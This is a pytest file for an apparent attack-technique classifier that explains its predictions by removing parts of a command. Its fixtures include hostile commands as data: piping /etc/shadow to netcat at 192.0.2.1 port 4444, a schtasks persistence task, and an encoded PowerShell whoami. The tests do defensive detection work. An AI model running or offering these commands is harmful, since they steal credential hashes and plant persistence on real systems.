"""What would change the answer is what the model says when it is asked again."""

import pytest

from ttpline.commands.understand import Understander
from ttpline.explain.explain import explain
from ttpline.explain.tries import MOST_TRIED
from ttpline.models.hybrid import Hybrid
from ttpline.testing.fixed_classifier import FixedClassifier

COMMAND = "cat /etc/shadow | nc 192.0.2.1 4444"


def test_what_changes_the_answer_comes_first(fixed: FixedClassifier, small_knowledge: Understander) -> None:
    tries = explain(COMMAND, fixed, understander=small_knowledge).without
    told = [(one.what, one.removed.text, one.changes) for one in tries]
    assert told == [
        ("word", "/etc/shadow", True),
        ("part", "cat /etc/shadow | ", True),
        ("part", " | nc 192.0.2.1 4444", False),
    ]


def test_facts_are_taken_out_whole(hybrid: Hybrid) -> None:
    command = "schtasks /create /tn Updater /tr a.exe"
    tries = explain(command, hybrid).without
    [fact] = [one for one in tries if one.removed.text == "schtasks /create"]
    assert fact.what == "fact"
    assert fact.prediction == hybrid.predict(["/tn Updater /tr a.exe"], explain=False)[0]


def test_an_encoded_command_is_tried_plainly_first(hybrid: Hybrid) -> None:
    explanation = explain("powershell -enc dwBoAG8AYQBtAGkA", hybrid)
    first = explanation.without[0]
    assert first.what == "encoding"
    assert first.prediction == hybrid.predict(["powershell -Command whoami"], explain=False)[0]
    best, plain = explanation.prediction.techniques[0], first.prediction.techniques[0]
    assert first.changes is (best.technique != plain.technique or best.subtechnique != plain.subtechnique)


@pytest.mark.parametrize("command", ["rm a; " * 500, "cat /etc/shadow " * 200])
def test_tries_are_few(command: str, fixed: FixedClassifier, small_knowledge: Understander) -> None:
    assert len(explain(command, fixed, understander=small_knowledge).without) <= MOST_TRIED


def test_nothing_is_tried_without_a_command(fixed: FixedClassifier, small_knowledge: Understander) -> None:
    assert explain("", fixed, understander=small_knowledge).without == ()
